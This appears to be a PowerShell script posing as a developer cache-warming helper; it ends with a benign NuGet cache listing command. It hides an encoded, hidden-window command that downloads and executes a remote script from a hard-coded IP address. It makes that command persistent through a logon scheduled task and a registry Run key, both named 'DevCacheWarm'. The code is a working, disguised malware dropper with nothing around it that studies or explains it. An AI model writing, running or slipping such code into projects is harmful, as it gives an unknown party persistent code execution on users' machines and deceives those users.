$blob = 'SQBFAFgAIAAoAGkAcgBtACAAIgBoAHQAdABwAHMAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgAxADIALwB1AC4AcABzADEAIgApADsAIAB3AGgAbwBhAG0AaQA='
$arg  = "-NoP -W Hidden -E $blob"
$act  = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument $arg
$trg  = New-ScheduledTaskTrigger -AtLogOn
Register-ScheduledTask -TaskName 'DevCacheWarm' -Action $act -Trigger $trg -Force | Out-Null
$rk = 'HKCU:\Software\Microsoft\Windows\' + 'CurrentVersion\Run'
Set-ItemProperty -Path $rk -Name 'DevCacheWarm' -Value "powershell.exe $arg"
dotnet nuget locals all --list
